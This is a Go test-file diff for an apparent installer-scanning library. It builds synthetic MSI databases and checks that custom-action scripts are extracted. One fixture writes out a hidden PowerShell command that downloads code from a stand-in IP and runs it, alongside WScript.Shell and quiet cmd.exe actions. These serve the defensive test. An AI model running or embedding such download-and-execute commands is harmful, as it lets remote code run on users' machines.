@@ -130,11 +130,36 @@ func asarOf() []byte {
 	return append(append(b, make([]byte, size-len(header))...), payload...)
 }
 
-// msiOf writes a compound file of the class of installers with one stream, which is large enough for sectors of its own.
-func msiOf() []byte {
+// A stream is one of a compound file.
+type stream struct {
+	name string
+	data []byte
+}
+
+// msiOf writes a compound file of the class of installers, in which every stream has sectors of its own.
+func msiOf(streams ...stream) []byte {
 	const sector = 512
-	content := payload + strings.Repeat("\r\n", 2048)
-	sectors := (len(content) + sector - 1) / sector
+	if len(streams) == 0 {
+		streams = []stream{{"Binary.plan", []byte(payload + strings.Repeat("\r\n", 2048))}}
+	}
+	folders := (len(streams) + 4) / 4
+	var data []byte
+	table := bytes.Repeat([]byte{0xFF}, sector)
+	binary.LittleEndian.PutUint32(table, 0xFFFFFFFD)
+	used := uint32(1)
+	chain := func(sectors int) (first uint32) {
+		first = used
+		for i := range sectors {
+			next := used + 1
+			if i == sectors-1 {
+				next = 0xFFFFFFFE
+			}
+			binary.LittleEndian.PutUint32(table[4*used:], next)
+			used++
+		}
+		return first
+	}
+	chain(folders)
 	head := make([]byte, sector)
 	copy(head, "\xD0\xCF\x11\xE0\xA1\xB1\x1A\xE1")
 	for at, value := range map[int]uint16{24: 0x3E, 26: 3, 28: 0xFFFE, 30: 9, 32: 6} {
@@ -147,17 +172,7 @@ func msiOf() []byte {
 		binary.LittleEndian.PutUint32(head[at:], 0xFFFFFFFF)
 	}
 	binary.LittleEndian.PutUint32(head[76:], 0)
-	table := bytes.Repeat([]byte{0xFF}, sector)
-	binary.LittleEndian.PutUint32(table, 0xFFFFFFFD)
-	binary.LittleEndian.PutUint32(table[4:], 0xFFFFFFFE)
-	for i := range sectors {
-		next := uint32(i + 3)
-		if i == sectors-1 {
-			next = 0xFFFFFFFE
-		}
-		binary.LittleEndian.PutUint32(table[8+4*i:], next)
-	}
-	folder := make([]byte, sector)
+	folder := make([]byte, folders*sector)
 	record := func(n int, name string, kind byte) []byte {
 		r := folder[128*n : 128*(n+1)]
 		units := utf16.Encode([]rune(name))
@@ -173,12 +188,128 @@ func msiOf() []byte {
 	binary.LittleEndian.PutUint32(root[76:], 1)
 	copy(root[80:], "\x84\x10\x0C\x00\x00\x00\x00\x00\xC0\x00\x00\x00\x00\x00\x00\x46")
 	binary.LittleEndian.PutUint32(root[116:], 0xFFFFFFFE)
-	stream := record(1, "Binary.plan", 2)
-	binary.LittleEndian.PutUint32(stream[116:], 2)
-	binary.LittleEndian.PutUint32(stream[120:], uint32(len(content)))
-	data := make([]byte, sectors*sector)
-	copy(data, content)
+	for i, s := range streams {
+		r := record(i+1, s.name, 2)
+		if i+1 < len(streams) {
+			binary.LittleEndian.PutUint32(r[72:], uint32(i+2)) // its sibling to the right
+		}
+		sectors := (max(len(s.data), 4096) + sector - 1) / sector
+		binary.LittleEndian.PutUint32(r[116:], chain(sectors))
+		binary.LittleEndian.PutUint32(r[120:], uint32(len(s.data)))
+		data = append(append(data, s.data...), make([]byte, sectors*sector-len(s.data))...)
+	}
 	return bytes.Join([][]byte{head, table, folder, data}, nil)
+}
+
+// tableName packs the name of a table as Windows Installer does.
+func tableName(name string) string {
+	packed := []rune{0x4840}
+	for ; len(name) > 1; name = name[2:] {
+		packed = append(packed, rune(0x3800+strings.IndexByte(streamAlphabet, name[0])+strings.IndexByte(streamAlphabet, name[1])<<6))
+	}
+	if name != "" {
+		packed = append(packed, rune(0x4800+strings.IndexByte(streamAlphabet, name[0])))
+	}
+	return string(packed)
+}
+
+// tablesOf writes the tables of a database with the actions. Streams under 4,096 bytes would lie elsewhere, so that each is
+// filled up: strings with one that nothing refers to, tables with rows of nothing.
+func tablesOf(actions ...action) []stream {
+	var pool, data []byte
+	ids := map[string]int{}
+	add := func(s string) {
+		ids[s] = len(ids) + 1
+		pool = binary.LittleEndian.AppendUint16(pool, uint16(len(s)))
+		pool = binary.LittleEndian.AppendUint16(pool, 1)
+		data = append(data, s...)
+	}
+	id := func(s string) int {
+		if s == "" {
+			return 0
+		}
+		if ids[s] == 0 {
+			add(s)
+		}
+		return ids[s]
+	}
+	type row []int
+	columns := []row{}
+	for i, c := range []struct {
+		name string
+		kind int
+	}{{"Action", 0x2D48}, {"Type", 0x0502}, {"Source", 0x1D48}, {"Target", 0x1DFF}} {
+		columns = append(columns, row{id("CustomAction"), 0x8000 + i + 1, id(c.name), 0x8000 + c.kind})
+	}
+	var rows []row
+	for _, a := range actions {
+		rows = append(rows, row{id(a.name), 0x8000 + a.kind, id(a.source), id(a.target)})
+	}
+	table := func(rows []row) []byte {
+		for len(rows)*8 < 4096 {
+			rows = append(rows, row{0, 0, 0, 0})
+		}
+		var b []byte
+		for c := range 4 {
+			for _, r := range rows {
+				b = binary.LittleEndian.AppendUint16(b, uint16(r[c]))
+			}
+		}
+		return b
+	}
+	add(strings.Repeat("x", 5000))
+	head := append([]byte{0xE4, 4, 0, 0}, pool...)
+	head = append(head, make([]byte, max(0, 4096-len(head)))...)
+	return []stream{{tableName("_StringPool"), head}, {tableName("_StringData"), data}, {tableName("_Columns"), table(columns)}, {tableName("CustomAction"), table(rows)}}
+}
+
+// TestCustomActions finds what installing runs, by the names of files that tell how.
+func TestCustomActions(t *testing.T) {
+	streams := tablesOf(
+		action{"Update", "TARGETDIR", `powershell.exe -w hidden -c "iex (iwr http://198.51.100.7/a)"`, exeInDirectory | 0xC00},
+		action{"Check", "", `CreateObject("WScript.Shell").Run "calc"`, vbsInTable},
+		action{"Old", "plan", "", jsInBinary},
+		action{"SetFolder", "INSTALLDIR", "[ProgramFilesFolder]App", setProperty},
+		action{"SetQuiet", "WixQuietExecCmdLine", `"[SystemFolder]cmd.exe" /c start x`, setProperty},
+	)
+	streams = append(streams, stream{"Binary.plan", []byte("var a = 1;" + strings.Repeat(" ", 4096))})
+	a, err := open(t, "application/x-ms-installer", msiOf(streams...), sekisho.Limits{})
+	if err != nil {
+		t.Fatal(err)
+	}
+	want := map[string]string{
+		"CustomAction.cmd":       "rem Update\r\npowershell.exe -w hidden -c \"iex (iwr http://198.51.100.7/a)\"\r\nrem SetQuiet\r\n\"[SystemFolder]cmd.exe\" /c start x\r\n",
+		"CustomAction/Check.vbs": `CreateObject("WScript.Shell").Run "calc"`,
+		"Binary.plan.js":         "var a = 1;",
+	}
+	for part := range a.All() {
+		text, ok := want[part.Name]
+		if !ok {
+			continue
+		}
+		delete(want, part.Name)
+		content := make([]byte, part.Size)
+		if _, err := part.Blob.ReadAt(content, 0); err != nil || strings.TrimRight(string(content), " ") != text {
+			t.Errorf("%s holds %q, %v; want %q", part.Name, content, err, text)
+		}
+	}
+	if len(want) > 0 {
+		t.Errorf("not found: %v", want)
+	}
+}
+
+// TestTablesAreBounded reads tables that say more than they hold.
+func TestTablesAreBounded(t *testing.T) {
+	for name, d := range map[string]*database{
+		"a string beyond the data":   {tables: map[string][]byte{"_StringPool": {0, 0, 0, 0, 9, 0, 1, 0}, "_StringData": []byte("abc")}},
+		"a long string cut off":      {tables: map[string][]byte{"_StringPool": {0, 0, 0, 0, 0, 0, 1, 0}}},
+		"half a row":                 {tables: map[string][]byte{"_StringPool": {0, 0, 0, 0}, "_Columns": make([]byte, 9)}},
+		"half a row of long strings": {tables: map[string][]byte{"_StringPool": {0, 0, 0, 0x80}, "_Columns": make([]byte, 16)}},
+	} {
+		if actions, err := d.actions(); len(actions) > 0 || err == nil {
+			t.Errorf("%s: %v, %v", name, actions, err)
+		}
+	}
 }
 
 // TestHostile finds the shortcut in every kind of installer, through the checkpoint and the rules of shortcuts.
@@ -271,7 +402,7 @@ func TestStreamName(t *testing.T) {
 }
 
 func FuzzOpenNeverExceedsBudget(f *testing.F) {
-	for i, data := range [][]byte{msiOf(), arOf("data.tar", []byte("x")), nil, rpmOf(f, "echo"), pkgOf(f), asarOf()} {
+	for i, data := range [][]byte{msiOf(tablesOf(action{"A", "", "x", vbsInTable})...), arOf("data.tar", []byte("x")), nil, rpmOf(f, "echo"), pkgOf(f), asarOf()} {
 		f.Add(i, data)
 	}
 	f.Fuzz(func(t *testing.T, kind int, data []byte) {
